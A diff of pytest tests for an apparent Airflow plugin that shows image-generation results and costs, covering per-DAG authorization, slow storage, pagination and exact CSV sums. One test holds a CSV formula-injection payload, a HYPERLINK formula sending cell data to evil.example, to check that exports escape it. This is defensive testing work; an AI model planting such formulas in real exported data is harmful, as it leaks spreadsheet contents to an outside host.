@@ -2,21 +2,29 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
+import io
 import json
 import threading
 import time
 from collections.abc import Callable
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+import httpx
 import pytest
 from fsspec.implementations.memory import MemoryFileSystem
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from airflow_provider_apimart.api.dollars import written_dollars
 from airflow_provider_apimart.durable.folder import Folder
-from airflow_provider_apimart.page_index.entry import Entry, Kind, State
+from airflow_provider_apimart.page_index.entry import Entry, Kind, Spending, State
+from airflow_provider_apimart.page_index.writing import IndexFile
+from airflow_provider_apimart.plugin import gallery as gallery_module
 from airflow_provider_apimart.plugin import index as index_module
 from airflow_provider_apimart.plugin import ledgers as ledgers_module
 from airflow_provider_apimart.plugin.index import Index
@@ -28,9 +36,11 @@ from tests.page.content import ledger_name
 from tests.parsed_page import ParsedPage
 
 if TYPE_CHECKING:
+    from fastapi import FastAPI
     from fastapi.testclient import TestClient
 
 MONTH = "2026-11"
+PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
 TEXTS = st.text(st.characters(codec=None), max_size=8) | st.sampled_from(
     ["\ud800", "\0", "=1+1", "2026-11-26T10:00:00Z"]
 )
@@ -366,3 +376,176 @@ def test_amounts_of_earlier_generations_and_numbers_of_a_request_are_written_as_
     assert "$0.10" in page.text
     assert "0.8" in page.text
     assert '"0.8"' not in page.text
+
+
+@pytest.mark.parametrize("kind", ["files", "thumbnails"])
+def test_a_picture_asks_for_the_rights_of_its_dag_only(
+    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
+) -> None:
+    """A page has dozens of pictures, and some auth managers ask another service about each DAG."""
+    (tmp_path / "a.png").write_bytes(PNG)
+    for number in range(20):
+        files = [{"uri": str(tmp_path / "a.png"), "media_type": "image/png"}]
+        item = {"id": "a", "status": "completed", "files": files}
+        put(place, f"e{number}", kind="generation", dag_id=f"d{number}", destination=str(tmp_path), item=item)
+    from airflow_provider_apimart.plugin import access
+
+    asked: list[str] = []
+    manager = type(access.get_auth_manager())
+    decide = manager.is_authorized_dag
+
+    def counted(self: Any, **kwargs: Any) -> bool:
+        asked.append(kwargs["details"].id)
+        return bool(decide(self, **kwargs))
+
+    monkeypatch.setattr(manager, "is_authorized_dag", counted)
+    assert viewer.get(f"/{kind}/e7/{key_of('a')}/0").status_code == 200
+    assert asked == ["d7"]
+    assert viewer.get(f"/{kind}/e99/{key_of('a')}/0").status_code == 404
+    assert asked == ["d7"]
+
+
+@pytest.mark.parametrize(("where", "status"), [("another task's", 200), ("nobody's", 404), ("beside", 404)])
+def test_a_ledger_reuses_only_what_a_task_of_the_index_has_saved(
+    place: Path, viewer: TestClient, tmp_path: Path, where: str, status: int
+) -> None:
+    """Who can write to a directory of results can write a ledger there, but not to the index."""
+    folder = tmp_path / ("saved" if where == "another task's" else "saved-not")
+    (folder / "deep").mkdir(parents=True)
+    (folder / "deep" / "a.png").write_bytes(PNG)
+    if where != "nobody's":
+        put(place, "other", dag_id="other", destination=(tmp_path / "saved").as_uri())
+    saved = [{"uri": (folder / "deep" / "a.png").as_uri(), "media_type": "image/png"}]
+    ledger = tmp_path / ledger_name("d", "t", "r")
+    ledger.write_text(json.dumps({"id": "a", "status": "reused", "reused": "g", "files": saved}))
+    put(place, "b", ledger=ledger.as_uri(), destination=(tmp_path / "own").as_uri())
+    assert viewer.get(f"/files/b/{key_of('a')}/0").status_code == status
+
+
+def test_a_slow_storage_blocks_neither_the_event_loop_nor_other_readers(
+    place: Path, host: FastAPI, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from airflow.api_fastapi.app import get_auth_manager
+
+    from tests.page.host import simple_user
+
+    put(place, "b", counts={"completed": 7})
+    answers = threading.Event()
+    listing = index_module._listing
+
+    async def read() -> None:
+        token = get_auth_manager().generate_jwt(simple_user("viewer", "VIEWER"))
+        headers = {"Authorization": f"Bearer {token}"}
+        transport = httpx.ASGITransport(app=host)
+        async with httpx.AsyncClient(
+            transport=transport, base_url="http://testserver/apimart", headers=headers
+        ) as browser:
+            assert "7</b> of 7 done" in (await browser.get("/")).text
+            monkeypatch.setattr(index_module, "_listing", lambda root: answers.wait(60) and listing(root))
+            slow = asyncio.create_task(browser.get("/"))
+            await asyncio.sleep(0.2)
+            for path in ("/static/page.css", "/", "/cost"):
+                assert (await asyncio.wait_for(browser.get(path), 20)).status_code == 200
+            assert not slow.done()
+            answers.set()
+            assert (await slow).status_code == 200
+
+    try:
+        asyncio.run(read())
+    finally:
+        answers.set()
+
+
+def test_listings_take_a_tenth_of_the_time_at_most(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(index_module, "_FRESH_FACTOR", 10)
+    now = [0.0]
+    index = Index(clock=lambda: now[0])
+    listing = index_module._listing
+
+    def slow(root: Any) -> Any:
+        now[0] += 3.0
+        return listing(root)
+
+    monkeypatch.setattr(index_module, "_listing", slow)
+    for _ in range(100):
+        index.entries()
+        now[0] += 1.0
+    assert now[0] <= 100 + 4 * 3.0
+
+
+def test_a_gallery_of_slow_storages_comes_in_time(
+    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(gallery_module, "_LONGEST_SECONDS", 0.0)
+    for number in range(3):
+        content.large_batch(f"d{number}", tmp_path / str(number), 2)
+    page = ParsedPage(viewer.get("/gallery").text)
+    assert "2 items; 2 older batches aren't searched" in page.text
+
+
+def test_a_page_beyond_the_last_is_the_last(place: Path, viewer: TestClient, tmp_path: Path) -> None:
+    content.large_batch("d", tmp_path, 61)
+    assert "product-0" in ParsedPage(viewer.get("/gallery?page=99&sort=newest").text).text
+    assert "1 of 1 done" not in viewer.get("/?page=99").text
+    assert "61</b> of 61 done" in viewer.get("/?page=99").text
+
+
+def test_tomorrow_counts_as_today(place: Path, viewer: TestClient) -> None:
+    """The clock of a worker, or APIMart's, is ahead of this one at the border of a day."""
+    tomorrow = f"{datetime.now(UTC) + timedelta(days=1):%Y-%m-%d}"
+    put(place, "b", spending=[{"day": tomorrow, "model": "m", "cost": 0.07, "generations": 1}])
+    page = viewer.get("/cost?days=1")
+    (row,) = csv.DictReader(io.StringIO(viewer.get("/cost.csv?days=1").text))
+    assert (row["day"], row["cost"]) == (f"{datetime.now(UTC):%Y-%m-%d}", "0.07")
+    assert 'class="series-0" x=' in page.text
+
+
+@pytest.mark.parametrize("letter", list("=+-@\uff1d\uff0b\uff0d\uff20"))
+def test_no_column_of_the_csv_is_a_formula(place: Path, viewer: TestClient, letter: str) -> None:
+    evil = f'{letter}HYPERLINK("http://evil.example?"&A1,"x")'
+    put(
+        place,
+        "b",
+        dag_id=evil,
+        task_id=evil,
+        spending=[{"day": f"{datetime.now(UTC):%Y-%m-%d}", "model": evil, "cost": 1}],
+    )
+    (row,) = csv.DictReader(io.StringIO(viewer.get("/cost.csv").text))
+    assert [row[name] for name in ("dag_id", "task_id", "model")] == [f"'{evil}"] * 3
+
+
+AMOUNTS = st.none() | st.decimals(0, 10**6, places=9)
+ROWS = st.lists(
+    st.tuples(st.integers(0, 3), st.sampled_from("ab"), st.sampled_from(["m", ""]), AMOUNTS, AMOUNTS, AMOUNTS),
+    max_size=12,
+)
+
+
+@given(ROWS)
+@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
+def test_csv_and_tables_have_the_same_exact_sums(
+    place: Path, viewer: TestClient, rows: list[tuple[int, str, str, Any, Any, Any]]
+) -> None:
+    """Entries as tasks write them, through JSON and back."""
+    spending = tuple(
+        Spending(
+            f"{datetime.now(UTC) - timedelta(days=ago):%Y-%m-%d}",
+            model,
+            1,
+            *(each or Decimal(0) for each in (cost, quoted)),
+            1,
+            saved or Decimal(0),
+        )
+        for ago, _, model, cost, quoted, saved in rows
+    )
+    dags = [dag for _, dag, *_ in rows]
+    for dag in "ab":
+        own = tuple(row for row, of in zip(spending, dags, strict=True) if of == dag)
+        IndexFile().write(Entry(dag, Kind.BATCH, dag, "t", "r", state=State.FINISHED, spending=own))
+    written = list(csv.DictReader(io.StringIO(viewer.get("/cost.csv?days=7").text)))
+    page = ParsedPage(viewer.get("/cost?days=7").text).text
+    for name in ("cost", "quoted", "saved"):
+        total = sum((Decimal(row[name]) for row in written), Decimal(0))
+        assert total == sum((getattr(row, name) for row in spending), Decimal(0))
+        assert written_dollars(total) in page
+    assert sum(int(row["generations"]) for row in written) == len(rows)
